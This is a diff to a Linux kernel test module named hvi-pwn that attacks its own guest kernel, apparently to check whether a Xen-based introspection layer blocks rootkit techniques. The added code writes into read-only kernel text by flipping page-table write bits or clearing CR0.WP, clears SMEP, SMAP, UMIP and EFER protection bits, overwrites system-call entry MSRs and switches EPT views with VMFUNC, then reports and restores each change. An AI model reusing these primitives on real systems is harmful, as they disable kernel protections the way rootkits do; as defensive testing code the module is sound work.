@@ -3,18 +3,26 @@
  * An attack on the kernel it is loaded into, for guests that may be harmed.
  *
  * It does what rootkits do once they run in ring 0: it writes into kernel text
- * past its read-only mapping, or redirects the system call entry. It attacks
- * once, while it is loaded, says what it saw and puts back what it changed.
+ * past its read-only mapping, redirects the system call entry, or switches off
+ * what the processor protects the kernel with. It attacks once, while it is
+ * loaded, says what it saw and puts back what it changed.
  * Unload it to use it again. (It could fail to load instead, were it not for
  * busybox' insmod, which tries twice.)
  *
- *	mode=text          clear CR0.WP, store one byte through the text mapping
- *	mode=keep          as text, and leave it so
+ *	mode=text          make a page table entry writable, store one byte
+ *	                   through the text mapping
+ *	mode=keep          as text, and leave the byte so
  *	mode=alias         the same through the direct mapping of the same frame
  *	mode=rep           as text, four bytes with rep movsb
+ *	mode=wp            as text, by clearing CR0.WP instead; where it stays set,
+ *	                   nothing is stored
  *	mode=lstar|star|cstar|sysenter-eip
  *	                   write the MSR
+ *	mode=cr0-wp|cr4-smep|cr4-smap|cr4-umip|efer-sce|efer-nxe
+ *	                   clear the bit. efer-nxe ends a guest in which it succeeds:
+ *	                   its page tables have NX bits in them
  *	times=N            and try so often, or until one write lands
+ *	mode=vmfunc        execute VMFUNC, to change to each of the first ten views
  *	mode=end           no attack: end the guest at once, as its own kernel would
  *	reason=N           with this reason (SHUTDOWN_* of xen/include/public/sched.h:
  *	                   0 poweroff, 1 reboot, 3 crash, 4 watchdog, 5 soft_reset)
@@ -25,16 +33,21 @@
  *
  *	hvi-pwn: mode=M address=0xA before=0xB tried=0xT after=0xR WRITTEN|BLOCKED
  *
- * A is the target's linear address in the text mapping, or the MSR's number;
- * several bytes are shown as one little-endian number.
+ * A is the target's linear address in the text mapping, or the register's
+ * number; several bytes are shown as one little-endian number. For vmfunc the
+ * values are the views, one bit each: none before, those tried, and those for
+ * which VMFUNC was carried out and not refused with #UD. In a processor that
+ * lacks the bit to be cleared it says "no such bit" in place of the values.
  */
 #include <linux/init.h>
 #include <linux/kernel.h>
 #include <linux/module.h>
 #include <linux/string.h>
+#include <asm/asm.h>
 #include <asm/io.h>
 #include <asm/msr.h>
 #include <asm/page.h>
+#include <asm/pgtable.h>
 #include <asm/processor-flags.h>
 #include <xen/interface/sched.h>
 #include <xen/interface/xen.h>
@@ -105,20 +118,148 @@ static void attack_msr(u32 number)
 	report(number, before, tried, after);
 }
 
-/* write stores n bytes with write protection off. */
-static void write(u8 *to, const u8 *from, unsigned long n, bool rep)
-{
-	unsigned long cr0, i;
+/* The registers with the processor's protections, and these. */
+enum control { CR0, CR4, EFER };
 
-	asm volatile("mov %%cr0, %0" : "=r"(cr0));
-	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
+static const struct {
+	const char *name;
+	enum control reg;
+	u64 bit;
+} bits[] = {
+	{ "cr0-wp", CR0, X86_CR0_WP },
+	{ "cr4-smep", CR4, X86_CR4_SMEP },
+	{ "cr4-smap", CR4, X86_CR4_SMAP },
+	{ "cr4-umip", CR4, X86_CR4_UMIP },
+	{ "efer-sce", EFER, EFER_SCE },
+	{ "efer-nxe", EFER, EFER_NX },
+};
+
+static u64 read_control(enum control reg)
+{
+	unsigned long v = 0;
+
+	switch (reg) {
+	case CR0:
+		asm volatile("mov %%cr0, %0" : "=r"(v));
+		break;
+	case CR4:
+		asm volatile("mov %%cr4, %0" : "=r"(v));
+		break;
+	case EFER:
+		/* On AMD a guest sees SVME, set by Xen, which it may not write. */
+		v = read_msr(MSR_EFER) & ~EFER_SVME;
+		break;
+	}
+	return v;
+}
+
+/* The kernel's own would put the bits back (native_write_cr0, native_write_cr4). */
+static void write_control(enum control reg, u64 v)
+{
+	switch (reg) {
+	case CR0:
+		asm volatile("mov %0, %%cr0" : : "r"((unsigned long)v) : "memory");
+		break;
+	case CR4:
+		asm volatile("mov %0, %%cr4" : : "r"((unsigned long)v) : "memory");
+		break;
+	case EFER:
+		write_msr(MSR_EFER, v);
+		break;
+	}
+}
+
+static void attack_bit(enum control reg, u64 bit)
+{
+	static const unsigned long number[] = { [CR0] = 0, [CR4] = 4, [EFER] = MSR_EFER };
+	unsigned long flags;
+	u64 before, tried, after;
+	unsigned int i = 0;
+
+	do {
+		local_irq_save(flags);
+		before = read_control(reg);
+		tried = before & ~bit;
+		if (tried == before) {
+			local_irq_restore(flags);
+			pr_info("hvi-pwn: mode=%s no such bit\n", mode);
+			return;
+		}
+		write_control(reg, tried);
+		after = read_control(reg);
+		if (after != before)
+			write_control(reg, before);
+		local_irq_restore(flags);
+	} while (++i < times && after == before);
+	report(number[reg], before, tried, after);
+}
+
+/* vmfunc reports whether VMFUNC's leaf 0 is carried out for a view. */
+static bool vmfunc(u32 view)
+{
+	u32 done = 1;
+
+	asm volatile("1: .byte 0x0f, 0x01, 0xd4\n\t"
+		     "jmp 3f\n"
+		     "2: xorl %0, %0\n"
+		     "3:\n"
+		     _ASM_EXTABLE(1b, 2b)
+		     : "+b"(done) : "a"(0), "c"(view) : "memory");
+	return done;
+}
+
+static void attack_views(void)
+{
+	u64 tried = 0, done = 0;
+	u32 view;
+
+	for (view = 0; view < 10; view++) {
+		tried |= 1ULL << view;
+		if (vmfunc(view))
+			done |= 1ULL << view;
+	}
+	report(0, 0, tried, done);
+}
+
+/* store stores n bytes, with rep movsb or one by one. */
+static void store(u8 *to, const u8 *from, unsigned long n, bool rep)
+{
+	unsigned long i;
+
 	if (rep) {
 		asm volatile("rep movsb" : "+D"(to), "+S"(from), "+c"(n) : : "memory");
 	} else {
 		for (i = 0; i < n; i++)
 			asm volatile("movb %1, (%0)" : : "r"(to + i), "q"(from[i]) : "memory");
 	}
-	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
+}
+
+/* write stores n bytes of one page that is read-only to the kernel. */
+static void write(u8 *to, const u8 *from, unsigned long n, bool rep)
+{
+	unsigned int level;
+	pte_t *pte = lookup_address((unsigned long)to, &level);
+	u64 was;
+
+	if (!pte)
+		return;
+	was = READ_ONCE(*(u64 *)pte);
+	WRITE_ONCE(*(u64 *)pte, was | _PAGE_RW);
+	asm volatile("invlpg (%0)" : : "r"(to) : "memory");
+	store(to, from, n, rep);
+	WRITE_ONCE(*(u64 *)pte, was);
+	asm volatile("invlpg (%0)" : : "r"(to) : "memory");
+}
+
+/* write_wp is write by way of CR0.WP. */
+static void write_wp(u8 *to, const u8 *from, unsigned long n)
+{
+	u64 cr0 = read_control(CR0);
+
+	write_control(CR0, cr0 & ~X86_CR0_WP);
+	if (!(read_control(CR0) & X86_CR0_WP))
+		store(to, from, n, false);
+	write_control(CR0, cr0);
 }
 
 static u64 number(const u8 *b, unsigned long n)
@@ -130,7 +271,7 @@ static u64 number(const u8 *b, unsigned long n)
 	return v;
 }
 
-static int attack_text(bool alias, bool rep, bool keep)
+static int attack_text(bool alias, bool rep, bool keep, bool wp)
 {
 	unsigned long at = address, flags, n = rep ? 4 : 1;
 	u8 before[4], tried[4], after[4];
@@ -151,7 +292,10 @@ static int attack_text(bool alias, bool rep, bool keep)
 		before[i] = READ_ONCE(text[i]);
 		tried[i] = before[i] ^ FLIP;
 	}
-	write(to, tried, n, rep);
+	if (wp)
+		write_wp(to, tried, n);
+	else
+		write(to, tried, n, rep);
 	for (i = 0; i < n; i++)
 		after[i] = READ_ONCE(text[i]);
 	if (!keep && memcmp(after, before, n))
@@ -182,14 +326,26 @@ static int __init pwn_init(void)
 			return 0;
 		}
 	}
+	for (i = 0; i < ARRAY_SIZE(bits); i++) {
+		if (!strcmp(mode, bits[i].name)) {
+			attack_bit(bits[i].reg, bits[i].bit);
+			return 0;
+		}
+	}
+	if (!strcmp(mode, "vmfunc")) {
+		attack_views();
+		return 0;
+	}
 	if (!strcmp(mode, "text"))
-		return attack_text(false, false, false);
+		return attack_text(false, false, false, false);
 	if (!strcmp(mode, "keep"))
-		return attack_text(false, false, true);
+		return attack_text(false, false, true, false);
 	if (!strcmp(mode, "alias"))
-		return attack_text(true, false, false);
+		return attack_text(true, false, false, false);
 	if (!strcmp(mode, "rep"))
-		return attack_text(false, true, false);
+		return attack_text(false, true, false, false);
+	if (!strcmp(mode, "wp"))
+		return attack_text(false, false, false, true);
 	return -EINVAL;
 }
 module_init(pwn_init);
@@ -199,5 +355,5 @@ static void __exit pwn_exit(void)
 }
 module_exit(pwn_exit);
 
-MODULE_DESCRIPTION("Attack on kernel text and the system call entry, for tests");
+MODULE_DESCRIPTION("Attack on kernel text and the processor's registers, for tests");
 MODULE_LICENSE("GPL");
